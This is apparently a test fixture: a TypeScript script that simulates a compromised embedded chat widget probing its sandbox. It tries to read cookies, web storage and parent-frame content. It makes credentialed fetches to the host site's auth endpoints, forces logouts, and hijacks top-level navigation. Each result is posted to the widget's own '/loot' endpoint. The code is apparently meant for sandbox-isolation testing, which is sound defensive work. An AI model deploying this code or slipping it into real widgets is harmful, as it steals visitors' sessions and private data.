/** Simulates a compromised chat widget that tries to identify visitors. Posts the outcome of each attempt to `/loot`, one line each. */
export function hostileWidget(): void {
  const { origin } = new URL((document.currentScript as HTMLScriptElement).src);
  const site = location.origin;
  const send = (name: string, got: string) => void fetch(`${origin}/loot`, { method: 'POST', mode: 'no-cors', body: `${name}: ${got}` });
  const later = (ms: number) => new Promise<never>((_, reject) => setTimeout(() => reject(new Error('silence')), ms));
  const attempt = async (name: string, steal: () => unknown) => {
    try {
      const got = await Promise.race([Promise.resolve().then(steal), later(4000)]);
      send(name, got === undefined || got === null || got === '' ? 'nothing' : `LOOT ${String(got)}`);
    } catch (error) {
      send(name, `refused ${(error as Error).name}`);
    }
  };
  const arrives = (make: (done: (got: string) => void, refuse: () => void) => void) =>
    new Promise<string>((resolve, reject) => make(resolve, () => reject(new Error('refused'))));
  const foreign = window as unknown as { parent: Window; top: Window; opener: Window | null };

  void attempt('localStorage', () => JSON.stringify({ ...localStorage }));
  void attempt('sessionStorage', () => JSON.stringify({ ...sessionStorage }));
  void attempt('cookie', () => document.cookie);
  void attempt('set cookie', () => {
    document.cookie = 'planted=1; path=/';
    return document.cookie;
  });
  void attempt('databases', async () => (await indexedDB.databases()).length || undefined);
  void attempt('caches', async () => (await caches.keys()).join() || 'an empty list');
  void attempt('worker', async () => (await navigator.serviceWorker.getRegistrations()).length || 'an empty list');
  void attempt('parent document', () => foreign.parent.document.body.textContent);
  void attempt('parent storage', () => foreign.parent.localStorage.length);
  void attempt('parent address', () => foreign.parent.location.href);
  void attempt('own frame', () => window.frameElement);
  void attempt('opener', () => foreign.opener);
  void attempt('referrer', () => document.referrer);
  void attempt('domain', () => {
    document.domain = location.hostname;
    return foreign.parent.document.title;
  });
  for (const path of ['/api/auth/user', '/api/posts', '/trpc/auth.user']) {
    void attempt(`fetch ${path}`, async () => (await fetch(site + path, { credentials: 'include' })).text());
    void attempt(`blind fetch ${path}`, async () => (await fetch(site + path, { credentials: 'include', mode: 'no-cors' })).type);
  }
  void attempt(
    'write',
    async () => (await fetch(`${site}/api/auth/logout`, { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' })).type,
  );
  void attempt('request', () =>
    arrives((done, refuse) => {
      const request = new XMLHttpRequest();
      request.withCredentials = true;
      request.open('GET', `${site}/api/auth/user`);
      request.addEventListener('load', () => done(request.responseText));
      request.addEventListener('error', refuse);
      request.send();
    }),
  );
  void attempt('socket', () =>
    arrives((done, refuse) => {
      const socket = new WebSocket(`${site.replace('http', 'ws')}/ws?postId=1`);
      socket.addEventListener('open', () => done('open'));
      socket.addEventListener('error', refuse);
    }),
  );
  void attempt('picture', () =>
    arrives((done, refuse) => {
      const picture = new Image();
      picture.addEventListener('load', () => done('loaded'));
      picture.addEventListener('error', refuse);
      picture.src = `${site}/favicon.svg`;
    }),
  );
  void attempt('script', () =>
    arrives((done, refuse) => {
      const script = document.createElement('script');
      script.addEventListener('load', () => done('ran'));
      script.addEventListener('error', refuse);
      script.src = `${site}/sw.js`;
      document.body.append(script);
    }),
  );
  void attempt('channel', () =>
    arrives((done) => {
      new BroadcastChannel('sottovoce').addEventListener('message', ({ data }) => done(String(data)));
    }),
  );
  void attempt('top by address', () => {
    foreign.top.location.href = `${origin}/frame`;
  });
  void attempt('top by link', () => {
    const link = document.createElement('a');
    Object.assign(link, { href: `${origin}/frame`, target: '_top' });
    document.body.append(link);
    link.click();
  });
  void attempt('top by form', () => {
    const form = document.createElement('form');
    Object.assign(form, { action: `${site}/api/auth/logout`, method: 'POST', target: '_top' });
    document.body.append(form);
    form.submit();
  });
  for (const data of ['live-chat:closed', { type: 'navigate', url: origin }]) foreign.parent.postMessage(data, '*');

  // Browsers open windows only upon a click.
  const button = document.createElement('button');
  button.textContent = 'Chatta con noi';
  button.addEventListener('click', () => {
    for (const path of ['/settings', '/api/auth/user']) {
      const opened = window.open(site + path);
      void attempt(`window ${path}`, async () => {
        await new Promise((resolve) => setTimeout(resolve, 2000));
        return opened?.document.body.textContent;
      });
    }
    const form = document.createElement('form');
    Object.assign(form, { action: `${site}/api/auth/logout`, method: 'POST', target: '_blank' });
    document.body.append(form);
    form.submit();
    // Last, because it replaces this document.
    setTimeout(() => void (location.href = `${site}/api/auth/user`), 6000);
  });
  document.body.append(button);
  send('started', 'nothing');
}
